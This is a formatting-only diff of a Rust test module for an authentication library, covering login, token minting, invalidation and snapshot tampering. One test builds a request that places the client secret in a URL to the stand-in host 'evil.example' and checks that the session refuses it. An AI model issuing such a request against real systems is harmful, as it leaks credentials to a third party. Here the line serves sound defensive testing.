@@ -3,8 +3,8 @@
 use std::time::{Duration, UNIX_EPOCH};
 
 use waldo_auth_core::{
-    Attempt, Call, Config, Credentials, Event, Explanation, Head, Instant, Login, Now, Origin, Outcome,
-    Reason, Refusal, Rejection, Session, Snapshot, Step, Unavailable, Verdict,
+    Attempt, Call, Config, Credentials, Event, Explanation, Head, Instant, Login, Now, Origin,
+    Outcome, Reason, Refusal, Rejection, Session, Snapshot, Step, Unavailable, Verdict,
 };
 use waldo_ureq::http::{HeaderMap, Request, StatusCode, header::AUTHORIZATION};
 
@@ -21,7 +21,8 @@ struct Play {
 }
 
 pub(crate) fn plays() {
-    let mut play = Play { session: Session::new(config()), clock: Duration::from_secs(1000), minted: 0 };
+    let mut play =
+        Play { session: Session::new(config()), clock: Duration::from_secs(1000), minted: 0 };
     errors_before_there_is_a_session();
     for scene in [
         Play::logs_in,
@@ -39,7 +40,8 @@ pub(crate) fn plays() {
 fn config() -> Config {
     let credentials = Credentials::new(KEY, SECRET).unwrap();
     EARS.hear(&credentials);
-    let builder = Config::builder(ORIGIN, credentials).invalidation_budget(1, Duration::from_secs(30));
+    let builder =
+        Config::builder(ORIGIN, credentials).invalidation_budget(1, Duration::from_secs(30));
     EARS.hear(&builder);
     let config = builder.build().unwrap();
     EARS.hear(&config);
@@ -69,7 +71,8 @@ impl Play {
 
     fn mint(&mut self) -> String {
         self.minted += 1;
-        let claims = ["eyJleHAiOjE4MDAwMDk5OTl9", "eyJleHAiOjE4MDAwMTk5OTl9", "eyJleHAiOjE4MDAwMjk5OTl9"];
+        let claims =
+            ["eyJleHAiOjE4MDAwMDk5OTl9", "eyJleHAiOjE4MDAwMTk5OTl9", "eyJleHAiOjE4MDAwMjk5OTl9"];
         let payload = claims[self.minted as usize % claims.len()];
         let token = format!("eyJhbGciOiJIUzI1NiJ9.{payload}.Gm7Xw2{:08}Qz5Rb9", self.minted);
         plant(&token);
@@ -112,7 +115,9 @@ impl Play {
     }
 
     fn lead(&mut self) -> Login {
-        let Step::Authenticate(login, _) = self.admit(Call::replayable()) else { panic!("nothing is held") };
+        let Step::Authenticate(login, _) = self.admit(Call::replayable()) else {
+            panic!("nothing is held")
+        };
         EARS.hear(&login);
         login
     }
@@ -162,7 +167,9 @@ impl Play {
         let mut elsewhere =
             Request::get(format!("https://evil.example/?{SECRET:?}").replace('"', "")).body(());
         if let Ok(request) = &mut elsewhere {
-            EARS.hear_error(&self.session.admit(Call::one_shot(), request, self.now()).unwrap_err());
+            EARS.hear_error(
+                &self.session.admit(Call::one_shot(), request, self.now()).unwrap_err(),
+            );
         }
     }
 
@@ -230,7 +237,10 @@ impl Play {
         let next = self.lead();
         self.settle(login, Outcome::Abandoned);
         let source = std::io::Error::other("connection refused");
-        self.settle(next, Outcome::Unavailable(Unavailable::new(Reason::Transport).with_source(source)));
+        self.settle(
+            next,
+            Outcome::Unavailable(Unavailable::new(Reason::Transport).with_source(source)),
+        );
         drop(self.admit(Call::replayable()));
         self.pass(30);
         let login = self.lead();
@@ -246,9 +256,11 @@ impl Play {
         let generation = self.session.generation().unwrap();
         self.session.invalidate(generation, self.now());
         EARS.hear_error(&self.session.resume(&snapshot, self.now()).unwrap_err());
-        for (field, text) in
-            [("\"version\":1", KEY.to_owned()), ("\"token\"", stored.clone()), (ORIGIN, self.mint())]
-        {
+        for (field, text) in [
+            ("\"version\":1", KEY.to_owned()),
+            ("\"token\"", stored.clone()),
+            (ORIGIN, self.mint()),
+        ] {
             let spoilt = stored.replace(field, &text);
             EARS.hear_error(&Snapshot::from_json(spoilt.as_bytes()).unwrap_err());
         }
@@ -270,7 +282,9 @@ fn answer(login: &Login, status: u16, body: &str) -> Outcome {
 fn answer_to_nobody(session: &mut Session, now: Now) -> Login {
     match session.admit(Call::replayable(), &mut request(), now).unwrap() {
         Step::Authenticate(login, _) => login,
-        step @ (Step::Send(_) | Step::Wait(..) | Step::Refuse(_)) => panic!("it is cold, and yet {step:?}"),
+        step @ (Step::Send(_) | Step::Wait(..) | Step::Refuse(_)) => {
+            panic!("it is cold, and yet {step:?}")
+        }
     }
 }
 
